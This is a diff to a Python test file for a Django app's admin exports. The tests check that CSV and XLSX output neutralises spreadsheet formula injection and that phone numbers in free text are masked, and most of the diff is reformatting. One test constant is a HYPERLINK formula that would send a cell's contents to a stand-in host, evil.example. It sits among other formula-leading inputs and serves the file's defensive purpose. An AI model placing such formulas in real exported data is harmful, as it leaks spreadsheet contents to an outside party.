@@ -12,7 +12,7 @@ from gridgov.core.privacy import mask_phones
 from gridgov.core.rows import sheet_value, text
 from gridgov.grids.models import Grid
 from gridgov.people.models import Unit
-from tests.core.admin_io_util import post_import, reupload, root  # noqa: F401
+from tests.core.admin_io_util import post_import, reupload
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看详情")'
 STARTS = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
@@ -30,12 +30,20 @@ def test_control_characters_no_workbook_holds_are_dropped():
 
 
 def test_other_values_are_unchanged():
-    assert [sheet_value(v) for v in (-3, 2.5, None, "路灯不亮", "'引号", "")] == [-3, 2.5, None, "路灯不亮", "'引号", ""]
+    assert [sheet_value(v) for v in (-3, 2.5, None, "路灯不亮", "'引号", "")] == [
+        -3,
+        2.5,
+        None,
+        "路灯不亮",
+        "'引号",
+        "",
+    ]
 
 
 def test_xlsx_and_csv_responses_write_text_not_formulas():
-    book = openpyxl.load_workbook(io.BytesIO(xlsx_response(["a"], [[v] for v in STARTS] + [[-3]], "x.xlsx",
-                                                           "t").content))
+    book = openpyxl.load_workbook(
+        io.BytesIO(xlsx_response(["a"], [[v] for v in STARTS] + [[-3]], "x.xlsx", "t").content)
+    )
     cells = [row[0] for row in book.active.iter_rows(min_row=2)]
     # (XML turns a CR into a LF when read back: the quote in front is what counts)
     assert [c.value for c in cells[:-1]] == ["'" + v.replace("\r", "\n") for v in STARTS]
@@ -45,22 +53,25 @@ def test_xlsx_and_csv_responses_write_text_not_formulas():
     assert [row[0] for row in csv.reader(io.StringIO(body, newline=""))][1:] == ["'" + v for v in STARTS]
 
 
-@pytest.mark.parametrize(("raw", "masked"), [
-    ("电话138-1234-5678", "电话138****5678"),
-    ("请联系 138 1234 5678 谢谢", "请联系 138****5678 谢谢"),
-    ("+86 138-1234-5678", "+86 138****5678"),
-    ("0086-13812345678", "0086-138****5678"),
-    ("13812345678", "138****5678"),
-    ("座机 0371-6666666", "座机 0371-*****66"),
-    ("2026-11-12 10:00 3号楼12单元", "2026-11-12 10:00 3号楼12单元"),
-])
+@pytest.mark.parametrize(
+    ("raw", "masked"),
+    [
+        ("电话138-1234-5678", "电话138****5678"),
+        ("请联系 138 1234 5678 谢谢", "请联系 138****5678 谢谢"),
+        ("+86 138-1234-5678", "+86 138****5678"),
+        ("0086-13812345678", "0086-138****5678"),
+        ("13812345678", "138****5678"),
+        ("座机 0371-6666666", "座机 0371-*****66"),
+        ("2026-11-12 10:00 3号楼12单元", "2026-11-12 10:00 3号楼12单元"),
+    ],
+)
 def test_phones_in_free_text_are_masked_with_hyphens_or_spaces(raw, masked):
     assert mask_phones(raw) == masked
 
 
 @pytest.mark.django_db
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_admin_exports_neutralise_and_round_trip(demo_city, root, fmt):  # noqa: F811
+def test_admin_exports_neutralise_and_round_trip(demo_city, root, fmt):
     unit = Unit.objects.filter(kind="department").order_by("code").first()
     Unit.objects.filter(pk=unit.pk).update(name=FORMULA)
     grid = Grid.objects.filter(level=3, valid_to__isnull=True).order_by("code").first()
